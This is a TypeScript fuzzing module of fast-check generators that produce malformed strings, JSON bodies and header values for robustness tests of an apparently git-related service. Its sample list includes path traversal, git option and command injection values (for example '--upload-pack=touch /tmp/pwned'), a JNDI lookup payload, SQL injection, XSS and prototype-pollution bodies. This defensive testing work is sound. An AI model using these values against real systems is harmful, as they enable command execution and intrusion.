import fc from 'fast-check';

/**
 * Pieces that have broken parsers, routers, path handling and git's ref rules before:
 * traversal in its spellings, control and invisible characters, lone surrogates, bidi
 * marks, ref-name edge cases, option injection, numbers that are not quite numbers,
 * prototype keys. Strings are made by joining a few of these with plain text.
 */
export const ODD_PIECES: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../',
  '..\\',
  '../../../../etc/passwd',
  '%2e%2e',
  '%2e%2e%2f',
  '..%2f',
  '%252e%252e%252f',
  '....//',
  '/',
  '//',
  '\u0000',
  '\u0001',
  '\u0008',
  '\t',
  '\n',
  '\r\n',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\ud800',
  '\udc00',
  '\udbff\udfff',
  '\ud83d\ude00',
  '\u202e',
  '\u200f',
  '\u200e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\uffff',
  '\ufffd',
  'e\u0301',
  '\u00e9',
  '\u0130',
  '\u3000',
  '\uff0e\uff0e\uff0f',
  'a..b',
  '@{',
  'a@{1}',
  '@',
  'HEAD',
  'x.lock',
  'a/b.lock/c',
  '-x',
  '--upload-pack=touch /tmp/pwned',
  '-',
  'a/',
  '/a',
  'a//b',
  'a.',
  '.a',
  'a/.b',
  'a~1',
  'a^',
  'a:b',
  'a?b',
  'a*',
  'a[b',
  'a\\b',
  'a b',
  'refs/heads/main',
  'main',
  'feature-a',
  'origin/main',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '0',
  '1e400',
  '0x10',
  '1.5',
  '9007199254740993',
  '-0',
  ' 1 ',
  '\u0661',
  '{"a":1}',
  '[]',
  '<script>alert(1)</script>',
  "'; DROP TABLE jobs; --",
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%n',
  '%',
  '%zz',
  '%00',
  '%ED%A0%80',
  '%C0%AE',
  'file:///etc/passwd',
  'ext::sh -c touch% /tmp/pwned',
  'https://user:secret@127.0.0.1:1/r.git',
  'https://127.0.0.1:1/r.git?x=1#y',
  'ssh://-oProxyCommand=touch/r',
  '::1',
  'C:\\Windows\\system32',
  '\\\\server\\share',
];

/** One UTF-16 code unit, lone surrogates included. */
const codeUnit = fc
  .integer({ min: 0, max: 0xffff })
  .map((c) => String.fromCharCode(c));

/** Sizes at and around the limits the service states (names, titles, bodies, headers). */
const LONG_SIZES = [
  99,
  100,
  101,
  199,
  200,
  201,
  999,
  1000,
  1001,
  16_385,
  70_000,
  1 << 20,
];

/** A long string of one repeated piece, up to 1 MB. */
export const longString = fc
  .tuple(
    fc.constantFrom(...LONG_SIZES),
    fc.constantFrom('a', 'b/', '\u00e9', '\ud800', '..', '%'),
  )
  .map(([size, unit]) => unit.repeat(Math.ceil(size / unit.length)));

/** Odd pieces and plain text, joined. */
export const oddString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...ODD_PIECES) },
  {
    weight: 4,
    arbitrary: fc
      .array(
        fc.oneof(
          fc.constantFrom(...ODD_PIECES),
          fc.string({ maxLength: 6 }),
          codeUnit,
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((parts) => parts.join('')),
  },
  { weight: 2, arbitrary: fc.string({ unit: codeUnit, maxLength: 12 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: longString },
);

/** Any JSON value, and the values JSON parsers disagree about. */
export const oddJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      -0,
      Number.MAX_SAFE_INTEGER + 2,
      1e308,
      [],
      {},
      [null],
      { '': '' },
    ),
  },
  { weight: 2, arbitrary: oddString },
);

/**
 * Bodies that are no JSON value at all, or JSON that parsers treat differently: truncated,
 * prototype poisoning, duplicate keys, a byte-order mark, deep nesting, numbers out of range,
 * invalid UTF-8, UTF-16.
 */
export const oddBodyBytes: fc.Arbitrary<Buffer> = fc.oneof(
  fc.uint8Array({ maxLength: 64 }).map((bytes) => Buffer.from(bytes)),
  fc
    .constantFrom(
      '',
      ' ',
      '{',
      '{"action":',
      '{"action":"sync_repo"',
      '{"__proto__":{"action":"sync_repo"}}',
      '{"constructor":{"prototype":{"x":1}}}',
      '{"action":"sync_repo","action":"restack_repo"}',
      '\ufeff{"action":"sync_repo"}',
      '{"action":1e999}',
      '{"action":"\\ud800"}',
      '{"action":"\\u0000"}',
      `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
      `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
      'null',
      'undefined',
      "{'single':'quotes'}",
      '{"a":1}garbage',
      'name=x&remoteUrl=y',
    )
    .map((text) => Buffer.from(text, 'utf8')),
  fc.constant(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe])), // {"a":"\xff\xfe
  fc.constant(Buffer.from('{"action":"sync_repo"}', 'utf16le')),
);

/**
 * A header value as bytes the HTTP client can send (tab, printable ASCII and bytes 0x80 to
 * 0xff): a string's UTF-8 bytes as latin1, without the bytes that no header may carry (the
 * raw-bytes spec sends those).
 */
export const headerBytes = (value: string): string =>
  Buffer.from(value, 'utf8')
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '');

/** Odd header values: odd strings as bytes, and some shapes of their own. */
export const oddHeaderValue: fc.Arbitrary<string> = fc.oneof(
  oddString.map(headerBytes),
  fc.constantFrom('', ' ', '\t', 'a, b', 'a,b', '""', ';', '=', '\u00ff\u00fe'),
);
